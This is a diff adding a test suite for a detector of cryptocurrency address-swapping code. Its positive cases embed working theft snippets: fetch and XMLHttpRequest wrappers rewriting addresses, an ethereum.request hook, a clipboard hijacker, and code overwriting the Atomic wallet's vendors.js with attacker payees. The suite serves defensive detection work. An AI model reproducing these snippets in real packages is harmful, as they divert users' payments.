@@ -1,0 +1,125 @@
+import { BITCOIN, DOGECOIN, ETHEREUM, ETHEREUM_TWO, LITECOIN } from '../../../test/addresses.ts';
+import { examine } from '../../../test/examine.ts';
+import { replacesRecipients } from './replaces-recipients.ts';
+
+const SHAPE = `const shape = /\\b[LM][a-km-zA-HJ-NP-Z1-9]{26,33}\\b/g;`;
+const WALLET = `require('os').homedir() + '/AppData/Local/Programs/atomic/resources/app/vendors.js'`;
+
+examine(replacesRecipients, {
+  speaks: [
+    {
+      when: 'what is sent is searched for addresses',
+      files: {
+        'index.js': `${SHAPE} const ours = '${LITECOIN}'; const real = globalThis.fetch;
+          globalThis.fetch = (url, init) => real(url, { ...init, body: init.body.replace(shape, ours) })`,
+      },
+      weight: 'proof',
+      says: ['fetch', 'Litecoin'],
+    },
+    {
+      when: 'the exchange is a function of its own and the address is encoded',
+      files: {
+        'index.js': `${SHAPE} const ours = [atob('${btoa(LITECOIN)}')];
+          function exchange(text) { return text.replace(shape, () => ours[0]) }
+          const send = XMLHttpRequest.prototype.send; XMLHttpRequest.prototype.send = function (body) { return send.call(this, exchange(body)) }`,
+      },
+      weight: 'proof',
+    },
+    {
+      when: 'a wallet is asked to pay somebody else',
+      files: {
+        'index.js': `const ours = '${ETHEREUM}'; const real = window.ethereum.request;
+          window.ethereum.request = async call => { if (call.params) call.params[0].to = ours; return real(call) }`,
+      },
+      weight: 'strong',
+      says: ['ethereum.request'],
+    },
+    {
+      when: 'a timer exchanges the clipboard',
+      files: {
+        'index.js': `const c = require('clipboardy'); const ours = '${BITCOIN}';
+          setInterval(() => { if (/^bc1/.test(c.readSync())) c.writeSync(ours) }, 500)`,
+      },
+      weight: 'proof',
+    },
+    {
+      when: 'a file of a wallet is written with an address in it',
+      files: {
+        'index.js': `require('fs').writeFileSync(${WALLET}, 'INERT ' + '${DOGECOIN}')`,
+        'other.js': `exports.x = ['${DOGECOIN}', '${BITCOIN}']`,
+      },
+      weight: 'proof',
+    },
+    {
+      when: 'a file of a wallet is replaced by one that sets who is paid',
+      files: {
+        'index.js': `require('fs').copyFileSync(__dirname + '/a.js', ${WALLET})`,
+        'a.js': `const table = { LTC: '${LITECOIN}', DOGE: '${DOGECOIN}' }; exports.send = function (coin) { this.inputs.address = table[coin] }`,
+      },
+      weight: 'proof',
+      says: ['another application'],
+    },
+    {
+      when: 'whoever is paid is looked up by coin',
+      files: {
+        'index.js': `exports.send = function (coin, tx) {
+          if (coin === 'LTC') tx.to = '${LITECOIN}'; else if (coin === 'BTC') tx.to = '${BITCOIN}'; else tx.to = '${ETHEREUM}'; return tx }`,
+      },
+      weight: 'strong',
+    },
+  ],
+  silent: [
+    {
+      when: 'a README asks for donations',
+      files: { 'README.md': `BTC ${BITCOIN} LTC ${LITECOIN} ETH ${ETHEREUM}`, 'index.js': `module.exports = 1` },
+    },
+    {
+      when: 'the manifest tells where to donate',
+      files: { 'package.json': { name: 'specimen', funding: `https://donate.invalid/${BITCOIN}` }, 'index.js': `module.exports = 1` },
+    },
+    { when: 'a banner asks for donations', files: { 'index.js': `console.log('Donate:', '${BITCOIN}', '${LITECOIN}', '${ETHEREUM}')` } },
+    {
+      when: 'a wallet library knows its contracts and calls them',
+      files: {
+        'index.js': `const REGISTRY = '${ETHEREUM}'; const chains = { mainnet: { multicall: { address: '${ETHEREUM_TWO}' } } };
+          exports.call = (provider, tx) => { tx.to = REGISTRY; return provider.request({ method: 'eth_call', params: [tx, chains] }) };
+          exports.isAddress = text => /^0x[0-9a-fA-F]{40}$/.test(text)`,
+      },
+    },
+    {
+      when: 'tracing wraps fetch in a bundle that also holds contracts',
+      files: {
+        'index.js': `const REGISTRY = '${ETHEREUM}'; exports.read = client => client.call(REGISTRY);
+          const real = globalThis.fetch; globalThis.fetch = (...a) => { count++; return real(...a) }; let count = 0;`,
+      },
+    },
+    {
+      when: 'a client of a block explorer names accounts',
+      files: { 'index.js': `exports.show = () => fetch('https://explorer.invalid/address/${BITCOIN}'); exports.EXAMPLE = '${LITECOIN}'` },
+    },
+    {
+      when: 'a library that checks addresses brings vectors',
+      files: {
+        'test/vectors.js': `module.exports = { LTC: '${LITECOIN}', DOGE: '${DOGECOIN}', BTC: '${BITCOIN}' }`,
+        'index.js': `exports.isValid = text => /^[LM][a-km-zA-HJ-NP-Z1-9]{26,33}$/.test(text)`,
+      },
+    },
+    {
+      when: 'an address is copied on request',
+      files: { 'index.js': `exports.donate = () => navigator.clipboard.writeText('${BITCOIN}')` },
+    },
+    {
+      when: 'a wallet reads the clipboard when somebody pastes',
+      files: {
+        'index.js': `const OWN = '${BITCOIN}'; exports.paste = async () => { const text = await navigator.clipboard.readText(); return /^bc1/.test(text) ? text : undefined };
+          exports.copy = () => navigator.clipboard.writeText(OWN)`,
+      },
+    },
+    {
+      when: 'a mock of a wallet has a published test account',
+      files: {
+        'index.js': `window.ethereum.request = async ({ method }) => method === 'eth_accounts' ? ['0xf39Fd6e51aad88F6F4ce6aB8827279cffFb92266'] : null`,
+      },
+    },
+  ],
+});
